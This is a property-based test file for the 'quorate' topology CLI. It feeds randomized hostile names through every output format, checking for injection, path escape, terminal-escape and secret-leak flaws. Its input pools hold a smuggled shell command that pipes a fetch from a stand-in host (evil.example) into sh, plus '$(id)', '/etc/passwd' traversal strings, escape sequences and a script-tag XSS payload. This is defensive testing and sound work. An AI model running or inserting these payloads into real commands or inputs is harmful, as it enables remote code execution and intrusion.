// The harness of the third hardening round as a property: random hostile names (path segments,
// shell metacharacters, escape sequences, prototype keys, markup) through every output — check in
// each format, simulate, report, ports, diagram, diff, the game day's files and runbook — and the
// editor's diagnostics against the CLI's. The seed is printed on failure: QUORATE_SEED=<seed>
// reproduces a run, QUORATE_PROPERTY_RUNS=<n> runs more.
import { test } from "node:test";
import assert from "node:assert/strict";
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join, relative } from "node:path";
import { XMLValidator } from "fast-xml-parser";
import { parseAllDocuments } from "yaml";
import { createService } from "../../server/src/platform/node";
import { URI } from "../../server/src/service/uri";
import { inTempDir, rng, seedFromEnv } from "../helpers";

const POOLS: Record<string, readonly string[]> = {
  path: ["../escaped", "/etc/passwd", "a/b", ".", "..", "C:\\x", ".git", "con", "-rf", "~root", "a/../../b"],
  shell: ["ok-a;curl evil.example|sh;", "$(id)", "`id`", "a b", "it's", "x&y", "a>b", "*", "!!", "a\\b"],
  escape: ["\x1b]0;pwned\x07", "\x1b[2J", "a\rb", "a\nb", "\u202egnp.exe", "\u009b31m", "\x08\x08", "\t"],
  proto: ["constructor", "__proto__", "toString", "hasOwnProperty", "valueOf", "prototype", "__defineGetter__"],
  markup: ["<script>alert(1)</script>", "|pipe|", "**bold**", "[x](http://x)", "]]>", "&amp;", "-->", '"q"', "#", "%%"],
  plain: ["fra", "lon-prod", "a", "ü", "名前"],
};
const KINDS = Object.keys(POOLS);

/** Distinct hostile names: one pool item, or two joined, from random pools. */
function names(r: () => number, n: number): string[] {
  const pick = () => {
    const pool = POOLS[KINDS[Math.floor(r() * KINDS.length)]];
    return pool[Math.floor(r() * pool.length)];
  };
  const out: string[] = [];
  while (out.length < n) {
    const s = r() < 0.6 ? pick() : `${pick()}${pick()}`;
    if (!out.includes(s)) out.push(s);
  }
  return out;
}

const q = (s: string) => JSON.stringify(s);

function topology(r: () => number): { text: string; sites: string[]; clusters: string[] } {
  const sites = names(r, 3);
  const clusters = names(r, 3);
  const lines = ["apiVersion: quorate.dev/v1alpha1", "kind: Topology", "metadata:", `  name: ${q(names(r, 1)[0])}`, "sites:"];
  lines.push(...sites.map((s, i) => `  - name: ${q(s)}${i === 2 ? "\n    role: witness" : ""}`));
  lines.push("links:");
  for (let i = 0; i < 3; i++)
    for (let j = i + 1; j < 3; j++) lines.push(`  - { between: [${q(sites[i])}, ${q(sites[j])}], rttMs: ${5 + i + j} }`);
  lines.push("clusters:");
  clusters.forEach((c, i) => {
    lines.push(
      `  - name: ${q(c)}`,
      `    site: ${q(sites[i % 2])}`,
      "    mesh: submariner",
      `    network: { pods: 10.${i}.0.0/16, services: 10.10${i}.0.0/16 }`,
    );
    if (i === 0) lines.push(`    deployment: [${q(names(r, 1)[0])}, "../outside/secret.yaml"]`);
  });
  const [store, async, tr, ns, svc] = names(r, 5);
  lines.push(
    "stores:",
    `  - name: ${q(store)}`,
    "    replication: consensus",
    `    members: { ${q(sites[0])}: 2, ${q(sites[1])}: 2, ${q(sites[2])}: 1 }`,
    `  - { name: ${q(async)}, replication: async, writers: [${q(sites[0])}], maxLagSeconds: 2, writeRatePerSecond: 100, writeBytes: 1000, lagBufferBytes: 1000 }`,
    "traffic:",
    `  - name: ${q(tr)}`,
    "    steering: gslb",
    "    peakRps: 1000",
    `    dependsOn: [${q(async)}]`,
    "    backends:",
    ...clusters.slice(0, 2).map((c) => `      - { cluster: ${q(c)}, capacityRps: 600 }`),
    "exports:",
    `  - { service: ${q(svc)}, namespace: ${q(ns)}, clusters: [${q(clusters[0])}] }`,
  );
  return { text: `${lines.join("\n")}\n`, sites, clusters };
}

/** Raw control characters a terminal or a reader must never receive (newline and tab aside). */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const BROKEN = /\bNaN\b|\bundefined\b|\[object |function \w*\(|\n\s+at .*:\d+:\d+\)?\n/;

/**
 * The words of one POSIX command line, or why it is not safe: words are plain characters,
 * '…' or $'…' (\xHH, \uHHHH, \\, \' escapes); any other metacharacter outside quotes fails.
 */
function shellWords(line: string): string[] {
  const words: string[] = [];
  let i = 0;
  while (i < line.length) {
    while (line[i] === " ") i++;
    if (i >= line.length) break;
    let w = "";
    while (i < line.length && line[i] !== " ") {
      const c = line[i];
      if (c === "'") {
        const end = line.indexOf("'", i + 1);
        assert.ok(end > i, `unterminated quote in ${line}`);
        w += line.slice(i + 1, end);
        i = end + 1;
      } else if (c === "$" && line[i + 1] === "'") {
        i += 2;
        while (line[i] !== "'") {
          assert.ok(i < line.length, `unterminated $' in ${line}`);
          if (line[i] === "\\") {
            const e = line[i + 1];
            if (e === "x") {
              w += String.fromCharCode(Number.parseInt(line.slice(i + 2, i + 4), 16));
              i += 4;
            } else if (e === "u") {
              w += String.fromCharCode(Number.parseInt(line.slice(i + 2, i + 6), 16));
              i += 6;
            } else {
              w += e;
              i += 2;
            }
          } else w += line[i++];
        }
        i++;
      } else if (c === "\\") {
        w += line[i + 1];
        i += 2;
      } else {
        assert.match(c, /[A-Za-z0-9_@%+=:,./-]/, `unquoted ${JSON.stringify(c)} in ${JSON.stringify(line)}`);
        w += c;
        i++;
      }
    }
    words.push(w);
  }
  return words;
}

function filesUnder(dir: string): string[] {
  return readdirSync(dir).flatMap((n) => (statSync(join(dir, n)).isDirectory() ? filesUnder(join(dir, n)) : [join(dir, n)]));
}

function oneRun(seed: number): void {
  const r = rng(seed);
  const { text, sites, clusters } = topology(r);
  inTempDir({}, (dir) => {
    mkdirSync(join(dir, "outside"));
    writeFileSync(join(dir, "outside", "secret.yaml"), "cluster-cidr: TOKEN=hunter2\n");
    mkdirSync(join(dir, "repo", ".git"), { recursive: true });
    const repo = join(dir, "repo");
    writeFileSync(join(repo, "d.topology.yaml"), text);
    const { main } = require("../../server/src/cli/main") as typeof import("../../server/src/cli/main");
    const cli = (...argv: string[]) => {
      let stdout = "";
      let stderr = "";
      const code = main(argv, { stdout: (s) => (stdout += s), stderr: (s) => (stderr += s), isTTY: false, env: {}, cwd: repo }, "0");
      const what = `quorate ${argv.join(" ")}`;
      assert.ok(!RAW_CONTROL.test(stdout) && !RAW_CONTROL.test(stderr), `${what}: a raw control character reached the terminal`);
      assert.ok(!BROKEN.test(stdout) && !BROKEN.test(stderr), `${what}: ${(stdout + stderr).match(BROKEN)?.[0]} in its output`);
      assert.ok(!(stdout + stderr).includes("hunter2"), `${what}: printed a value from outside the repository`);
      return { code, stdout, stderr, what };
    };

    for (const format of ["text", "json", "sarif", "junit"]) {
      const c = cli("check", "-f", format, "d.topology.yaml");
      assert.ok(c.code === 0 || c.code === 1, `${c.what}: exit ${c.code} ${c.stderr}`);
      if (format === "json" || format === "sarif") JSON.parse(c.stdout);
      if (format === "text")
        for (const line of c.stdout.split("\n"))
          assert.match(
            line,
            /^(d\.topology\.yaml:\d+:\d+: |\s+↳ |\d+ errors?, |$)/,
            `${c.what}: a name forged a line: ${JSON.stringify(line)}`,
          );
      if (format === "junit") assert.equal(XMLValidator.validate(c.stdout), true, `${c.what}: not XML`);
      if (format === "json") {
        // the editor says the same about the topology as the CLI
        const cliCodes = (JSON.parse(c.stdout) as { file: string; code: string }[])
          .filter((f) => f.file === "d.topology.yaml")
          .map((f) => f.code)
          .sort();
        const service = createService();
        const uri = URI.fromPath(join(repo, "d.topology.yaml"));
        service.update(uri, text, true);
        const editorCodes = service
          .diagnostics(uri)
          .map((d) => String(d.code))
          .sort();
        assert.deepEqual(editorCodes, cliCodes, "the editor and the CLI disagree");
      }
    }
    // a name holding the CLI's own separators (`,` between sites, `/` between groups) cannot be
    // named on the command line: a usage error that says so, one line
    const sayable = (separators: RegExp, ...xs: string[]) => xs.every((x) => !separators.test(x) && x === x.trim());
    for (const [args, ok] of [
      [["--all-single-site"], true],
      [["--lose", sites[0]], sayable(/,/, sites[0])],
      [["--partition", `${sites[0]}/${sites[1]}`], sayable(/[,/]/, sites[0], sites[1])],
    ] as const)
      for (const format of ["text", "json", "md"]) {
        const s = cli("simulate", ...args, "-f", format, "d.topology.yaml");
        if (!ok) {
          assert.equal(s.code, 2, `${s.what}: ${s.stdout}`);
          assert.match(s.stderr, /^quorate: [^\n]+\n$/);
          continue;
        }
        assert.ok(s.code === 0 || s.code === 1, `${s.what}: exit ${s.code} ${s.stderr}`);
        if (format === "json") JSON.parse(s.stdout);
        if (format === "text")
          for (const line of s.stdout.split("\n"))
            assert.match(
              line,
              /^((ok|degraded|down) {2,}| {10}|\d+ scenarios?: |$)/,
              `${s.what}: a name forged a line: ${JSON.stringify(line)}`,
            );
      }
    assert.equal(cli("report", "d.topology.yaml").code, 0);
    assert.equal(cli("report", "-o", "ADR.md", "d.topology.yaml").code, 0);
    const adr = readFileSync(join(repo, "ADR.md"), "utf8");
    assert.ok(
      !RAW_CONTROL.test(adr),
      `the record holds a raw control character: ${JSON.stringify(adr.split("\n").find((l) => RAW_CONTROL.test(l)))}`,
    );
    // a name inside a code span is text (CommonMark renders a code span's content literally: a
    // finding that quotes a hostile deployment path shows it so); anywhere else it must be escaped
    const outsideCode = adr.replace(/(`+)[^\n]*?\1/g, "");
    assert.ok(
      !/<script/i.test(outsideCode),
      `the record holds raw HTML from a name: ${JSON.stringify(outsideCode.split("\n").find((l) => /<script/i.test(l)))}`,
    );
    for (const format of ["md", "csv", "json"]) {
      const p = cli("ports", "-f", format, "d.topology.yaml");
      assert.equal(p.code, 0, `${p.what}: ${p.stderr}`);
      if (format === "json") JSON.parse(p.stdout);
    }
    for (const format of ["mermaid", "md"]) {
      const d = cli("diagram", "-f", format, "d.topology.yaml");
      assert.equal(d.code, 0, `${d.what}: ${d.stderr}`);
      assert.ok(!/<script/i.test(d.stdout), `${d.what}: raw HTML from a name`);
    }
    assert.equal(cli("diff", "d.topology.yaml", "d.topology.yaml").code, 0);

    // the game day: files inside -o only, manifests that parse, commands that are exactly their words
    const lose = sites.find((x) => sayable(/,/, x));
    if (!lose) return;
    const g = cli("gameday", "--lose", lose, "--namespace", "app", "-o", "out", "d.topology.yaml");
    if (g.code === 2 && / error (schema|value\/[\w-]+): /.test(cli("check", "d.topology.yaml").stdout)) {
      // a design that breaks the schema gets no game day: one line, nothing written
      assert.match(g.stderr, /^quorate: [^\n]+\(fix it first: [^\n]+\)\n$/, g.what);
      assert.ok(!existsSync(join(repo, "out")), `${g.what}: a refused game day wrote out/`);
      return;
    }
    assert.equal(g.code, 0, `${g.what}: ${g.stderr}`);
    assert.deepEqual(readdirSync(dir).sort(), ["outside", "repo"]);
    assert.deepEqual(readdirSync(repo).sort(), [".git", "ADR.md", "d.topology.yaml", "out"]);
    const written = filesUnder(join(repo, "out")).map((f) => relative(join(repo, "out"), f));
    assert.ok(written.includes("RUNBOOK.md"));
    for (const f of written) {
      assert.ok(!f.startsWith("..") && !f.includes("\\"), f);
      if (f.endsWith(".yaml"))
        for (const d of parseAllDocuments(readFileSync(join(repo, "out", f), "utf8")))
          assert.equal(d.errors.length, 0, `${f} does not parse`);
    }
    const runbook = readFileSync(join(repo, "out", "RUNBOOK.md"), "utf8");
    assert.ok(
      !RAW_CONTROL.test(runbook),
      `the runbook holds a raw control character: ${JSON.stringify(runbook.split("\n").find((l) => RAW_CONTROL.test(l)))}`,
    );
    const commands = [...runbook.matchAll(/(?<!`)(`+) ?(kubectl .*?) ?(?<!`)\1(?!`)/g)].map((m) => m[2].replace(/\\\|/g, "|"));
    assert.ok(commands.length >= 2, `no kubectl command in the runbook:\n${runbook}`);
    for (const cmd of commands) {
      const words = shellWords(cmd);
      assert.equal(words[0], "kubectl");
      assert.equal(words[1], "--context");
      assert.ok(clusters.includes(words[2]), `${JSON.stringify(words[2])} is not a cluster's exact name (${cmd})`);
      // apply / delete name a file the game day wrote; other commands (exec …) are checked for quoting above
      if (words[3] === "apply" || words[3] === "delete")
        assert.ok(written.includes(words[5]), `${words[5]} is not a written file (${cmd})`);
    }
  });
}

test("property: hostile names through every output stay text, stay inside, and read the same in the editor and the CLI", () => {
  const first = seedFromEnv();
  const runs = Number(process.env.QUORATE_PROPERTY_RUNS ?? 12);
  for (let k = 0; k < runs; k++) {
    const seed = first + k;
    try {
      oneRun(seed);
    } catch (e) {
      const how = `seed ${seed} (reproduce: QUORATE_SEED=${seed} QUORATE_PROPERTY_RUNS=1 node scripts/test.mjs hostile-property)`;
      console.error(how);
      throw new Error(`${how}\n${(e as Error).message}`, { cause: e });
    }
  }
});
